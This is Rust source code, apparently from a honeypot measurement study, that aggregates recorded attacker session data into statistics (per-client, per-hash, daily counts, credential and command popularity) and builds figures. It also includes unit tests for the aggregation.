        assert!(agg.n_clients() > 0);
        let total_client_sessions: u64 = agg.clients.values().map(|c| c.sessions).sum();
        assert_eq!(total_client_sessions, agg.total_sessions);
        for c in agg.clients.values() {
            assert!(bit_count(&c.honeypots) >= 1);
            assert!(c.days >= 1);
            assert!(c.cats != 0);
            // Per-category days never exceed overall days.
            for ci in 0..5 {
                assert!(c.days_by_cat[ci] <= c.days);
                assert!(bit_count(&c.honeypots_by_cat[ci]) <= bit_count(&c.honeypots));
            }
        }
    }

    #[test]
    fn hash_aggregates_consistent() {
        let ds = small();
        let agg = Aggregates::compute(&ds);
        assert!(agg.n_hashes() > 0);
        for h in agg.hashes.iter().filter(|h| h.sessions > 0) {
            assert!(!h.clients.is_empty());
            assert!(h.days >= 1);
            assert!(h.first_day != u32::MAX);
            assert!(bit_count(&h.honeypots) >= 1);
            assert!(h.sessions >= h.days as u64);
        }
        // First-hash counters sum to the number of distinct hashes.
        let first_sum: u32 = agg.hp_first_hashes.iter().sum();
        assert_eq!(first_sum as usize, agg.n_hashes());
    }

    #[test]
    fn daily_unique_ips_bounded() {
        let ds = small();
        let agg = Aggregates::compute(&ds);
        for d in 0..agg.n_days as usize {
            let overall = agg.day_unique_ips[d][5];
            for ci in 0..5 {
                assert!(agg.day_unique_ips[d][ci] <= overall);
            }
            // Unique IPs never exceed sessions that day.
            assert!(overall as u64 <= agg.day_total[d]);
        }
    }

    #[test]
    fn freshness_day_one_is_all_fresh() {
        let ds = small();
        let agg = Aggregates::compute(&ds);
        let first = agg.freshness.first().expect("some hashes exist");
        assert_eq!(first.unique, first.fresh_ever);
    }

    #[test]
    fn password_counts_only_successful() {
        let ds = small();
        let agg = Aggregates::compute(&ds);
        // Every counted credential must be an accepted one: its password is
        // not "root" and its username is root.
        for (&cred_id, _) in agg.password_counts.iter() {
            let key = ds.sessions.creds.get(cred_id);
            let (user, pass) = key.split_once('\0').unwrap();
            assert_eq!(user, "root");
            assert_ne!(pass, "root");
        }
    }

    #[test]
    fn duration_histogram_totals() {
        let ds = small();
        let agg = Aggregates::compute(&ds);
        let hist_total: u64 = agg.dur_hist.iter().map(|h| h.iter().sum::<u64>()).sum();
        assert_eq!(hist_total, agg.total_sessions);
        // NO_CMD durations concentrate at/above the 180 s timeout.
        let no_cmd = &agg.dur_hist[Category::NoCmd.index()];
        let at_timeout: u64 = no_cmd[180..].iter().sum();
        let total: u64 = no_cmd.iter().sum();
        if total > 20 {
            assert!(
                at_timeout as f64 / total as f64 > 0.7,
                "{at_timeout}/{total}"
            );
        }
    }

    /// Compare the fields that summarize every group of the struct; the
    /// full field-by-field oracle lives in hf-testkit.
    fn assert_agg_eq(a: &Aggregates, b: &Aggregates, label: &str) {
        assert_eq!(a.total_sessions, b.total_sessions, "{label}: total");
        assert_eq!(a.day_hp_sessions, b.day_hp_sessions, "{label}: matrix");
        assert_eq!(a.day_total, b.day_total, "{label}: day_total");
        assert_eq!(a.day_unique_ips, b.day_unique_ips, "{label}: unique ips");
        assert_eq!(
            a.day_combo_clients, b.day_combo_clients,
            "{label}: combo clients"
        );
        assert_eq!(a.cat_totals, b.cat_totals, "{label}: cat totals");
        assert_eq!(
            a.hp_first_hashes, b.hp_first_hashes,
            "{label}: first hashes"
        );
        assert_eq!(a.freshness, b.freshness, "{label}: freshness");
        assert_eq!(a.asns, b.asns, "{label}: asns");
        assert_eq!(a.n_clients(), b.n_clients(), "{label}: clients");
        assert_eq!(a.n_hashes(), b.n_hashes(), "{label}: hashes");
        for (ip, ca) in &a.clients {
            let cb = &b.clients[ip];
            assert_eq!(ca.sessions, cb.sessions, "{label}: client {ip} sessions");
            assert_eq!(ca.days, cb.days, "{label}: client {ip} days");
            assert_eq!(ca.hashes, cb.hashes, "{label}: client {ip} hashes");
            assert_eq!(ca.country, cb.country, "{label}: client {ip} country");
        }
        for (hid, ha) in a.hashes.iter().enumerate() {
            let hb = &b.hashes[hid];
            assert_eq!(ha.sessions, hb.sessions, "{label}: hash {hid} sessions");
            assert_eq!(ha.first_day, hb.first_day, "{label}: hash {hid} first day");
            assert_eq!(
                ha.first_honeypot, hb.first_honeypot,
                "{label}: hash {hid} first hp"
            );
            assert_eq!(ha.days, hb.days, "{label}: hash {hid} days");
            assert_eq!(ha.clients, hb.clients, "{label}: hash {hid} clients");
        }
    }

    #[test]
    fn threaded_fold_is_thread_count_invariant() {
        let ds = small();
        let serial = Aggregates::compute(&ds);
        for threads in [2usize, 3, 5, 8, 64] {
            let par = Aggregates::compute_threaded(&ds, threads);
            assert_agg_eq(&serial, &par, &format!("threads={threads}"));
        }
    }

    #[test]
    fn unordered_store_falls_back_to_sorted_serial() {
        // Hand-build a store with out-of-order days; the fold must sort.
        use hf_farm::Collector;
        let out = Simulation::run(SimConfig::test(6));
        let world = hf_geo::World::build(1, &hf_geo::WorldConfig::tiny());
        let mut col = Collector::new(&world, out.dataset.plan.clone());
        // Re-ingest a few sessions in reverse day order via raw records is
        // not possible from views; instead check the guard directly.
        let _ = &mut col;
        assert!(out.dataset.sessions.is_day_ordered());
        let agg = Aggregates::compute_threaded(&out.dataset, 4);
        assert_eq!(agg.total_sessions, out.dataset.len() as u64);
    }

    #[test]
    fn streaming_fold_matches_materialized_compute() {
        let ds = small();
        let materialized = Aggregates::compute(&ds);
        // Replay the store day by day through the streaming fold, draining
        // freshness at each day boundary like the fold-mode runner does.
        let mut fold = StreamingFold::new(ds.plan.len());
        let mut last_day = 0;
        for v in ds.sessions.iter() {
            if v.day() != last_day {
                fold.drain_freshness();
                last_day = v.day();
            }
            fold.ingest(&ds.plan, &v);
        }
        let streamed = fold.finish();
        assert_eq!(streamed.n_days, materialized.n_days);
        assert_agg_eq(&materialized, &streamed, "streaming");
    }

    #[test]
    fn streaming_fold_empty_matches_empty_compute() {
        let agg = StreamingFold::new(221).finish();
        assert_eq!(agg.n_days, 1);
        assert_eq!(agg.total_sessions, 0);
        assert!(agg.freshness.is_empty());
        assert_eq!(agg.day_total, vec![0]);
    }

    #[test]
    fn asns_match_row_derived_set() {
        let ds = small();
        let agg = Aggregates::compute(&ds);
        let from_rows: IdSet = ds
            .sessions
            .iter()
            .filter_map(|v| v.client_asn().map(|a| a.0))
            .collect();
        assert!(!agg.asns.is_empty());
        assert_eq!(agg.asns, from_rows);
    }

    #[test]
    #[should_panic(expected = "u32 aggregate cell overflow")]
    fn merge_refuses_to_wrap_u32_cells() {
        let mut a = Aggregates::empty(1, 1);
        let mut b = Aggregates::empty(1, 1);
        a.day_hp_sessions[0] = u32::MAX;
        b.day_hp_sessions[0] = 1;
        a.merge(b);
    }

    #[test]
    #[should_panic(expected = "first-sighting retraction underflow")]
    fn merge_refuses_first_sighting_underflow() {
        // Both sides claim hash 0, but the left side never credited a
        // first sighting — the retraction must refuse to wrap.
        let mut a = Aggregates::empty(1, 1);
        let mut b = Aggregates::empty(1, 1);
        let ha = HashAgg {
            sessions: 1,
            first_honeypot: 0,
            ..HashAgg::default()
        };
        a.hashes = vec![ha.clone()];
        b.hashes = vec![ha];
        a.merge(b);
    }

    #[test]
    fn partial_ranges_assemble_to_compute() {
        let ds = small();
        let serial = Aggregates::compute(&ds);
        let n_days = serial.n_days;
        let ranges = ds.sessions.day_aligned_ranges(3);
        let parts: Vec<_> = ranges
            .into_iter()
            .map(|r| Aggregates::partial(&ds, r, n_days))
            .collect();
        let assembled = Aggregates::assemble(n_days, ds.plan.len(), parts);
        assert_agg_eq(&serial, &assembled, "partial/assemble");
    }

    #[test]
    fn merge_identity_on_empty() {
        let ds = small();
        let agg = Aggregates::compute(&ds);
        let mut base = Aggregates::empty(agg.n_days, agg.n_honeypots);
        let mut other = Aggregates::compute(&ds);
        other.freshness.clear(); // merge() takes partial (pre-replay) states
        base.merge(other);
        // Merging into the identity element reproduces every mergeable
        // field (freshness is replay-only, so compare the rest).
        assert_eq!(base.total_sessions, agg.total_sessions);
        assert_eq!(base.day_hp_sessions, agg.day_hp_sessions);
        assert_eq!(base.cat_totals, agg.cat_totals);
        assert_eq!(base.hp_first_hashes, agg.hp_first_hashes);
        assert_eq!(base.n_clients(), agg.n_clients());
    }
}
