//! One streaming pass over the session store computing every grouping the
//! paper's tables and figures need.
//!
//! The dataset can hold millions of sessions, so the pass is engineered to
//! touch each row once, keep per-entity state in dense arrays keyed by
//! interned ids, and process day-grouped state (daily unique clients,
//! freshness, regional diversity) with a flush at each day boundary.

use std::collections::{HashMap, HashSet};

use hf_farm::{Dataset, SessionView, TagDb};
use hf_geo::World;
use hf_honeypot::EndReason;
use hf_proto::Protocol;

use crate::classify::{classify, Category};
use crate::metrics::freshness::{FreshnessPoint, FreshnessSeries};

/// Bitset over honeypots (the farm has 221 ≤ 256 nodes).
pub type HpBitset = [u64; 4];

/// Set a bit.
fn bit_set(b: &mut HpBitset, i: u16) {
    b[(i >> 6) as usize] |= 1u64 << (i & 63);
}

/// Count set bits.
pub fn bit_count(b: &HpBitset) -> u32 {
    b.iter().map(|w| w.count_ones()).sum()
}

/// Per-client accumulated state.
#[derive(Clone)]
pub struct ClientAgg {
    /// Honeypots contacted, overall and per category.
    pub honeypots: HpBitset,
    /// Per-category honeypot sets (Fig. 12's per-category ECDFs).
    pub honeypots_by_cat: [HpBitset; 5],
    /// Distinct active days, overall and per category (Fig. 13).
    pub days: u32,
    pub days_by_cat: [u32; 5],
    last_day: u32,
    last_day_by_cat: [u32; 5],
    /// Categories this client ever appeared in (bitmask by Category index).
    pub cats: u8,
    /// Sessions by this client.
    pub sessions: u64,
    /// Distinct hashes this client produced (Fig. 21).
    pub hashes: HashSet<u32>,
    /// Client country (u16::MAX = unknown).
    pub country: u16,
}

impl Default for ClientAgg {
    fn default() -> Self {
        ClientAgg {
            honeypots: [0; 4],
            honeypots_by_cat: [[0; 4]; 5],
            days: 0,
            days_by_cat: [0; 5],
            last_day: u32::MAX,
            last_day_by_cat: [u32::MAX; 5],
            cats: 0,
            sessions: 0,
            hashes: HashSet::new(),
            country: u16::MAX,
        }
    }
}

/// Per-hash accumulated state.
#[derive(Clone)]
pub struct HashAgg {
    /// Sessions containing this hash.
    pub sessions: u64,
    /// Distinct client IPs.
    pub clients: HashSet<u32>,
    /// Distinct active days.
    pub days: u32,
    last_day: u32,
    /// First day observed.
    pub first_day: u32,
    /// Honeypot that observed it first.
    pub first_honeypot: u16,
    /// Honeypots that ever observed it.
    pub honeypots: HpBitset,
}

impl Default for HashAgg {
    fn default() -> Self {
        HashAgg {
            sessions: 0,
            clients: HashSet::new(),
            days: 0,
            last_day: u32::MAX,
            first_day: u32::MAX,
            first_honeypot: u16::MAX,
            honeypots: [0; 4],
        }
    }
}

/// Daily state that flushes at day boundaries.
#[derive(Default)]
struct DayState {
    /// ip → category bitmask seen today.
    client_cats: HashMap<u32, u8>,
    /// ip → (overall relation mask, per-category relation masks).
    client_regions: HashMap<u32, [u8; 6]>,
}

/// Everything computed by the pass.
pub struct Aggregates {
    /// Days covered (max session day + 1).
    pub n_days: u32,
    /// Honeypot count.
    pub n_honeypots: usize,
    /// Sessions per (day × honeypot), row-major by day.
    pub day_hp_sessions: Vec<u32>,
    /// Same, per category.
    pub day_hp_by_cat: [Vec<u32>; 5],
    /// Total sessions per day.
    pub day_total: Vec<u64>,
    /// Sessions per day per category.
    pub day_by_cat: [Vec<u64>; 5],
    /// Daily unique client IPs per category (Fig. 11) + overall (index 5).
    pub day_unique_ips: Vec<[u32; 6]>,
    /// Daily counts of clients per category-combination bitmask over
    /// {NO_CRED, FAIL_LOG, CMD} (Fig. 15): index = bitmask (1..=7).
    pub day_combo_clients: Vec<[u32; 8]>,
    /// Daily counts of clients per regional-relation combination, for
    /// overall (index 0) and each category (1..=5). Relation mask bits:
    /// 1 = same country, 2 = same continent, 4 = different continent.
    pub day_region_combos: Vec<[[u32; 8]; 6]>,
    /// Category totals (Table 1).
    pub cat_totals: [u64; 5],
    /// SSH sessions per category (Table 1's protocol split).
    pub cat_ssh: [u64; 5],
    /// End reasons per category: [client, timeout, auth-limit].
    pub cat_end_reasons: [[u64; 3]; 5],
    /// Session duration histogram per category, seconds 0..=600 (cap).
    pub dur_hist: [Vec<u64>; 5],
    /// Sessions per honeypot.
    pub hp_sessions: Vec<u64>,
    /// Distinct clients per honeypot, overall.
    pub hp_clients: Vec<HashSet<u32>>,
    /// Distinct clients per honeypot per category.
    pub hp_clients_by_cat: Vec<[HashSet<u32>; 5]>,
    /// Distinct hashes per honeypot (Fig. 18/19).
    pub hp_hashes: Vec<HashSet<u32>>,
    /// Hashes first seen at each honeypot (early-observer analysis).
    pub hp_first_hashes: Vec<u32>,
    /// Per-client aggregates keyed by IP.
    pub clients: HashMap<u32, ClientAgg>,
    /// Per-hash aggregates indexed by digest id.
    pub hashes: Vec<HashAgg>,
    /// Successful-login password counts (cred pool id → count).
    pub password_counts: HashMap<u32, u64>,
    /// Command popularity (command pool id → count).
    pub command_counts: HashMap<u32, u64>,
    /// SSH client version counts (pool id → count).
    pub ssh_version_counts: HashMap<u32, u64>,
    /// Sessions that created/modified ≥1, ≥2, >10 files.
    pub file_sessions: (u64, u64, u64),
    /// Daily hash freshness (Fig. 17).
    pub freshness: Vec<FreshnessPoint>,
    /// Total sessions.
    pub total_sessions: u64,
}

impl Aggregates {
    /// Run the pass.
    pub fn compute(dataset: &Dataset, _tags: &TagDb) -> Self {
        let n_honeypots = dataset.plan.len();
        let store = &dataset.sessions;
        let n_days = store
            .iter()
            .map(|v| v.day())
            .max()
            .map(|d| d + 1)
            .unwrap_or(1);

        // Row order must be day-ordered for the streaming day state; build an
        // order index if not (robustness for hand-built stores).
        let mut order: Vec<u32> = (0..store.len() as u32).collect();
        let ordered = store
            .rows()
            .windows(2)
            .all(|w| w[0].start_secs / 86_400 <= w[1].start_secs / 86_400);
        if !ordered {
            order.sort_by_key(|&i| store.rows()[i as usize].start_secs);
        }

        let nd = n_days as usize;
        let mut agg = Aggregates {
            n_days,
            n_honeypots,
            day_hp_sessions: vec![0; nd * n_honeypots],
            day_hp_by_cat: std::array::from_fn(|_| vec![0; nd * n_honeypots]),
            day_total: vec![0; nd],
            day_by_cat: std::array::from_fn(|_| vec![0; nd]),
            day_unique_ips: vec![[0; 6]; nd],
            day_combo_clients: vec![[0; 8]; nd],
            day_region_combos: vec![[[0; 8]; 6]; nd],
            cat_totals: [0; 5],
            cat_ssh: [0; 5],
            cat_end_reasons: [[0; 3]; 5],
            dur_hist: std::array::from_fn(|_| vec![0; 601]),
            hp_sessions: vec![0; n_honeypots],
            hp_clients: vec![HashSet::new(); n_honeypots],
            hp_clients_by_cat: (0..n_honeypots)
                .map(|_| std::array::from_fn(|_| HashSet::new()))
                .collect(),
            hp_hashes: vec![HashSet::new(); n_honeypots],
            hp_first_hashes: vec![0; n_honeypots],
            clients: HashMap::new(),
            hashes: Vec::new(),
            password_counts: HashMap::new(),
            command_counts: HashMap::new(),
            ssh_version_counts: HashMap::new(),
            file_sessions: (0, 0, 0),
            freshness: Vec::new(),
            total_sessions: store.len() as u64,
        };

        let mut day_state = DayState::default();
        let mut current_day = 0u32;
        let mut fresh = FreshnessSeries::new();
        let mut session_hashes: Vec<u32> = Vec::new();

        for &idx in &order {
            let v = store.view(idx as usize);
            let day = v.day();
            if day != current_day {
                agg.flush_day(current_day, &mut day_state);
                current_day = day;
            }
            agg.ingest_session(dataset, &v, &mut day_state, &mut fresh, &mut session_hashes);
        }
        agg.flush_day(current_day, &mut day_state);
        agg.freshness = fresh.finish();
        agg
    }

    fn ingest_session(
        &mut self,
        dataset: &Dataset,
        v: &SessionView<'_>,
        day_state: &mut DayState,
        fresh: &mut FreshnessSeries,
        session_hashes: &mut Vec<u32>,
    ) {
        let cat = classify(v);
        let ci = cat.index();
        let day = v.day() as usize;
        let hp = v.honeypot();
        let ip = v.client_ip().0;

        // Volume matrices.
        self.day_hp_sessions[day * self.n_honeypots + hp as usize] += 1;
        self.day_hp_by_cat[ci][day * self.n_honeypots + hp as usize] += 1;
        self.day_total[day] += 1;
        self.day_by_cat[ci][day] += 1;
        self.cat_totals[ci] += 1;
        if v.protocol() == Protocol::Ssh {
            self.cat_ssh[ci] += 1;
        }
        let reason_idx = match v.ended_by() {
            EndReason::ClientClose => 0,
            EndReason::Timeout => 1,
            EndReason::AuthLimit => 2,
        };
        self.cat_end_reasons[ci][reason_idx] += 1;
        let d = (v.duration_secs() as usize).min(600);
        self.dur_hist[ci][d] += 1;

        // Per honeypot.
        self.hp_sessions[hp as usize] += 1;
        self.hp_clients[hp as usize].insert(ip);
        self.hp_clients_by_cat[hp as usize][ci].insert(ip);

        // Per client.
        let client = self.clients.entry(ip).or_default();
        client.sessions += 1;
        client.cats |= 1 << ci;
        bit_set(&mut client.honeypots, hp);
        bit_set(&mut client.honeypots_by_cat[ci], hp);
        if client.last_day != v.day() {
            // works for first session because last_day starts at MAX
            client.days += 1;
            client.last_day = v.day();
        }
        if client.last_day_by_cat[ci] != v.day() {
            client.days_by_cat[ci] += 1;
            client.last_day_by_cat[ci] = v.day();
        }
        if client.country == u16::MAX {
            if let Some(c) = v.client_country() {
                client.country = c.0;
            }
        }

        // Credentials / commands / ssh versions, counted by interned id.
        // Password counts: successful attempts only.
        for packed in dataset.sessions.lists.get(self.raw_login_list(v)) {
            if packed & 1 == 1 {
                *self.password_counts.entry(packed >> 1).or_default() += 1;
            }
        }
        for packed in dataset.sessions.lists.get(self.raw_cmd_list(v)) {
            *self.command_counts.entry(packed >> 1).or_default() += 1;
        }
        if let Some(vid) = self.raw_ssh_version(v) {
            *self.ssh_version_counts.entry(vid).or_default() += 1;
        }

        // Hashes.
        session_hashes.clear();
        session_hashes.extend_from_slice(v.hash_ids());
        session_hashes.extend_from_slice(v.download_hash_ids());
        session_hashes.sort_unstable();
        session_hashes.dedup();
        let n_files = v.hash_ids().len();
        if n_files >= 1 {
            self.file_sessions.0 += 1;
        }
        if n_files >= 2 {
            self.file_sessions.1 += 1;
        }
        if n_files > 10 {
            self.file_sessions.2 += 1;
        }
        for &hid in session_hashes.iter() {
            if self.hashes.len() <= hid as usize {
                self.hashes.resize(hid as usize + 1, HashAgg::default());
            }
            let h = &mut self.hashes[hid as usize];
            h.sessions += 1;
            h.clients.insert(ip);
            bit_set(&mut h.honeypots, hp);
            if h.last_day != v.day() {
                h.days += 1;
                h.last_day = v.day();
            }
            if h.first_day == u32::MAX {
                h.first_day = v.day();
                h.first_honeypot = hp;
                self.hp_first_hashes[hp as usize] += 1;
            }
            self.hp_hashes[hp as usize].insert(hid);
            fresh.observe(hid, v.day());
        }
        if !session_hashes.is_empty() {
            let client = self.clients.entry(ip).or_default();
            client.hashes.extend(session_hashes.iter().copied());
        }

        // Daily per-client state.
        let combo_bit = match cat {
            Category::NoCred => Some(0u8),
            Category::FailLog => Some(1),
            Category::Cmd | Category::CmdUri => Some(2),
            Category::NoCmd => None,
        };
        let entry = day_state.client_cats.entry(ip).or_insert(0);
        if let Some(b) = combo_bit {
            *entry |= 1 << b;
        }
        *entry |= 1 << (ci + 3); // upper bits: any-category presence

        // Regional relation.
        if let Some(cc) = v.client_country() {
            let hp_country = dataset.plan.node(hp).country;
            let rel = World::region_relation(cc, hp_country);
            let bit = match rel {
                hf_geo::RegionRelation::SameCountry => 1u8,
                hf_geo::RegionRelation::SameContinent => 2,
                hf_geo::RegionRelation::DifferentContinent => 4,
            };
            let masks = day_state.client_regions.entry(ip).or_insert([0; 6]);
            masks[0] |= bit;
            masks[ci + 1] |= bit;
        }
    }

    /// Raw list-pool ids (the view doesn't expose them; mirror its fields).
    fn raw_login_list(&self, v: &SessionView<'_>) -> u32 {
        v.raw().login_list_id
    }
    fn raw_cmd_list(&self, v: &SessionView<'_>) -> u32 {
        v.raw().cmd_list_id
    }
    fn raw_ssh_version(&self, v: &SessionView<'_>) -> Option<u32> {
        let id = v.raw().ssh_version_id;
        (id != u32::MAX).then_some(id)
    }

    fn flush_day(&mut self, day: u32, state: &mut DayState) {
        let d = day as usize;
        if d >= self.day_unique_ips.len() {
            state.client_cats.clear();
            state.client_regions.clear();
            return;
        }
        for (_, mask) in state.client_cats.iter() {
            // Per-category daily unique IPs.
            for ci in 0..5 {
                if mask & (1 << (ci + 3)) != 0 {
                    self.day_unique_ips[d][ci] += 1;
                }
            }
            self.day_unique_ips[d][5] += 1;
            // Combo over {NO_CRED, FAIL_LOG, CMD}.
            let combo = mask & 0b111;
            if combo != 0 {
                self.day_combo_clients[d][combo as usize] += 1;
            }
        }
        for (_, masks) in state.client_regions.iter() {
            for (slot, &m) in masks.iter().enumerate() {
                if m != 0 {
                    self.day_region_combos[d][slot][m as usize] += 1;
                }
            }
        }
        state.client_cats.clear();
        state.client_regions.clear();
    }

    /// Distinct client count.
    pub fn n_clients(&self) -> usize {
        self.clients.len()
    }

    /// Distinct hash count.
    pub fn n_hashes(&self) -> usize {
        self.hashes.iter().filter(|h| h.sessions > 0).count()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_sim::{SimConfig, Simulation};

    fn small() -> (Dataset, TagDb) {
        let out = Simulation::run(SimConfig::test(10));
        (out.dataset, out.tags)
    }

    #[test]
    fn totals_are_consistent() {
        let (ds, tags) = small();
        let agg = Aggregates::compute(&ds, &tags);
        assert_eq!(agg.total_sessions, ds.len() as u64);
        assert_eq!(agg.cat_totals.iter().sum::<u64>(), agg.total_sessions);
        assert_eq!(agg.day_total.iter().sum::<u64>(), agg.total_sessions);
        let matrix_sum: u64 = agg.day_hp_sessions.iter().map(|&c| c as u64).sum();
        assert_eq!(matrix_sum, agg.total_sessions);
        for ci in 0..5 {
            assert_eq!(
                agg.day_by_cat[ci].iter().sum::<u64>(),
                agg.cat_totals[ci],
                "category {ci}"
            );
            assert!(agg.cat_ssh[ci] <= agg.cat_totals[ci]);
        }
    }

    #[test]
    fn per_honeypot_sums_match() {
        let (ds, tags) = small();
        let agg = Aggregates::compute(&ds, &tags);
        assert_eq!(agg.hp_sessions.iter().sum::<u64>(), agg.total_sessions);
        // Clients per honeypot never exceed total clients.
        for set in &agg.hp_clients {
            assert!(set.len() <= agg.n_clients());
        }
    }

    #[test]
    fn client_aggregates_consistent() {
        let (ds, tags) = small();
        let agg = Aggregates::compute(&ds, &tags);
        assert!(agg.n_clients() > 0);
        let total_client_sessions: u64 = agg.clients.values().map(|c| c.sessions).sum();
        assert_eq!(total_client_sessions, agg.total_sessions);
        for c in agg.clients.values() {
            assert!(bit_count(&c.honeypots) >= 1);
            assert!(c.days >= 1);
            assert!(c.cats != 0);
            // Per-category days never exceed overall days.
            for ci in 0..5 {
                assert!(c.days_by_cat[ci] <= c.days);
                assert!(bit_count(&c.honeypots_by_cat[ci]) <= bit_count(&c.honeypots));
            }
        }
    }

    #[test]
    fn hash_aggregates_consistent() {
        let (ds, tags) = small();
        let agg = Aggregates::compute(&ds, &tags);
        assert!(agg.n_hashes() > 0);
        for h in agg.hashes.iter().filter(|h| h.sessions > 0) {
            assert!(!h.clients.is_empty());
            assert!(h.days >= 1);
            assert!(h.first_day != u32::MAX);
            assert!(bit_count(&h.honeypots) >= 1);
            assert!(h.sessions >= h.days as u64);
        }
        // First-hash counters sum to the number of distinct hashes.
        let first_sum: u32 = agg.hp_first_hashes.iter().sum();
        assert_eq!(first_sum as usize, agg.n_hashes());
    }

    #[test]
    fn daily_unique_ips_bounded() {
        let (ds, tags) = small();
        let agg = Aggregates::compute(&ds, &tags);
        for d in 0..agg.n_days as usize {
            let overall = agg.day_unique_ips[d][5];
            for ci in 0..5 {
                assert!(agg.day_unique_ips[d][ci] <= overall);
            }
            // Unique IPs never exceed sessions that day.
            assert!(overall as u64 <= agg.day_total[d]);
        }
    }

    #[test]
    fn freshness_day_one_is_all_fresh() {
        let (ds, tags) = small();
        let agg = Aggregates::compute(&ds, &tags);
        let first = agg.freshness.first().expect("some hashes exist");
        assert_eq!(first.unique, first.fresh_ever);
    }

    #[test]
    fn password_counts_only_successful() {
        let (ds, tags) = small();
        let agg = Aggregates::compute(&ds, &tags);
        // Every counted credential must be an accepted one: its password is
        // not "root" and its username is root.
        for (&cred_id, _) in agg.password_counts.iter() {
            let key = ds.sessions.creds.get(cred_id);
            let (user, pass) = key.split_once('\0').unwrap();
            assert_eq!(user, "root");
            assert_ne!(pass, "root");
        }
    }

    #[test]
    fn duration_histogram_totals() {
        let (ds, tags) = small();
        let agg = Aggregates::compute(&ds, &tags);
        let hist_total: u64 = agg.dur_hist.iter().map(|h| h.iter().sum::<u64>()).sum();
        assert_eq!(hist_total, agg.total_sessions);
        // NO_CMD durations concentrate at/above the 180 s timeout.
        let no_cmd = &agg.dur_hist[Category::NoCmd.index()];
        let at_timeout: u64 = no_cmd[180..].iter().sum();
        let total: u64 = no_cmd.iter().sum();
        if total > 20 {
            assert!(
                at_timeout as f64 / total as f64 > 0.7,
                "{at_timeout}/{total}"
            );
        }
    }
}
