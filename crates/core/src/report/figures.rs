//! Figures 1–24.
//!
//! Every figure consumes the one shared [`Aggregates`] pass; none re-scans
//! session rows. Builders that used to duplicate work expose fused variants
//! ([`fig_bands_with`] / [`fig_cat_bands_with`] share one top-5% selection,
//! [`client_ecdfs`] builds Figs. 12 and 13 in a single pass over clients)
//! which `Report::build` uses. TSV rendering goes through `write_tsv`
//! writers; `to_tsv` is the in-memory convenience wrapper.

use std::io;

use hf_farm::{Dataset, TagDb};
use hf_geo::country;

use crate::aggregates::{bit_count, Aggregates};
use crate::classify::Category;
use crate::metrics::bands::BandSeries;
use crate::metrics::ecdf::Ecdf;
use crate::metrics::freshness::FreshnessPoint;
use crate::metrics::ranks::{self, rank_series};
use crate::report::render::{pct, to_string, write_header};

/// Top-5% honeypots by total sessions (the selection of Figs. 3 and 9).
pub fn top5pct_honeypots(agg: &Aggregates) -> Vec<u16> {
    let mut idx: Vec<u16> = (0..agg.n_honeypots as u16).collect();
    idx.sort_by(|&a, &b| agg.hp_sessions[b as usize].cmp(&agg.hp_sessions[a as usize]));
    let k = (agg.n_honeypots as f64 * 0.05).ceil().max(1.0) as usize;
    idx.truncate(k);
    idx
}

// ---------------------------------------------------------------------------

/// Figure 1: honeypots per country.
#[derive(Debug, Clone, PartialEq)]
pub struct Fig1 {
    /// (ISO code, honeypot count) descending.
    pub rows: Vec<(String, usize)>,
}

/// Build Fig. 1.
pub fn fig1(dataset: &Dataset) -> Fig1 {
    Fig1 {
        rows: dataset
            .plan
            .nodes_per_country()
            .into_iter()
            .map(|(c, n)| (country::get(c).code.to_string(), n))
            .collect(),
    }
}

impl Fig1 {
    /// Streamed TSV rendering.
    pub fn write_tsv<W: io::Write>(&self, w: &mut W) -> io::Result<()> {
        write_header(w, &["country", "honeypots"])?;
        for (c, n) in &self.rows {
            writeln!(w, "{c}\t{n}")?;
        }
        Ok(())
    }

    /// TSV rendering.
    pub fn to_tsv(&self) -> String {
        to_string(|w| self.write_tsv(w))
    }
}

// ---------------------------------------------------------------------------

/// Figure 2: sessions per honeypot, ranked.
#[derive(Debug, Clone, PartialEq)]
pub struct Fig2 {
    /// (rank, sessions) descending.
    pub series: Vec<(u32, u64)>,
    /// Share of all sessions on the top-10 honeypots (paper: 14%).
    pub top10_share: f64,
    /// Max/min session ratio (paper: >30×).
    pub max_min_ratio: f64,
}

/// Build Fig. 2.
pub fn fig2(agg: &Aggregates) -> Fig2 {
    let series = rank_series(agg.hp_sessions.iter().copied());
    Fig2 {
        top10_share: ranks::top_k_share(&series, 10),
        max_min_ratio: ranks::max_min_ratio(&series).unwrap_or(0.0),
        series,
    }
}

impl Fig2 {
    /// Streamed TSV rendering.
    pub fn write_tsv<W: io::Write>(&self, w: &mut W) -> io::Result<()> {
        write_header(w, &["rank", "sessions"])?;
        for (r, s) in &self.series {
            writeln!(w, "{r}\t{s}")?;
        }
        Ok(())
    }

    /// TSV rendering.
    pub fn to_tsv(&self) -> String {
        to_string(|w| self.write_tsv(w))
    }
}

impl std::fmt::Display for Fig2 {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        writeln!(
            f,
            "top10 share {}, max/min {:.1}x, max {} min {}",
            pct(self.top10_share),
            self.max_min_ratio,
            self.series.first().map(|&(_, s)| s).unwrap_or(0),
            self.series.last().map(|&(_, s)| s).unwrap_or(0)
        )
    }
}

// ---------------------------------------------------------------------------

/// Figures 3/4: daily session bands per honeypot.
#[derive(Debug, Clone, PartialEq)]
pub struct FigBands {
    /// Whether restricted to the top-5% honeypots.
    pub top5_only: bool,
    /// The bands.
    pub bands: BandSeries,
}

/// Build Fig. 3 (`top5 = true`) or Fig. 4 (`top5 = false`).
pub fn fig_bands(agg: &Aggregates, top5: bool) -> FigBands {
    let sel = top5.then(|| top5pct_honeypots(agg));
    fig_bands_with(agg, sel.as_deref())
}

/// Build a band figure from a pre-computed honeypot selection (`None` =
/// all honeypots), letting callers share one [`top5pct_honeypots`] sort.
pub fn fig_bands_with(agg: &Aggregates, sel: Option<&[u16]>) -> FigBands {
    FigBands {
        top5_only: sel.is_some(),
        bands: BandSeries::from_matrix(&agg.day_hp_sessions, agg.n_days, agg.n_honeypots, sel),
    }
}

impl FigBands {
    /// Streamed TSV rendering.
    pub fn write_tsv<W: io::Write>(&self, w: &mut W) -> io::Result<()> {
        write_header(w, &["day", "p5", "q25", "median", "q75", "p95"])?;
        for p in &self.bands.points {
            writeln!(
                w,
                "{}\t{:.1}\t{:.1}\t{:.1}\t{:.1}\t{:.1}",
                p.day, p.p5, p.q25, p.median, p.q75, p.p95
            )?;
        }
        Ok(())
    }

    /// TSV rendering.
    pub fn to_tsv(&self) -> String {
        to_string(|w| self.write_tsv(w))
    }
}

// ---------------------------------------------------------------------------

/// Figure 5: classification-flow edge counts.
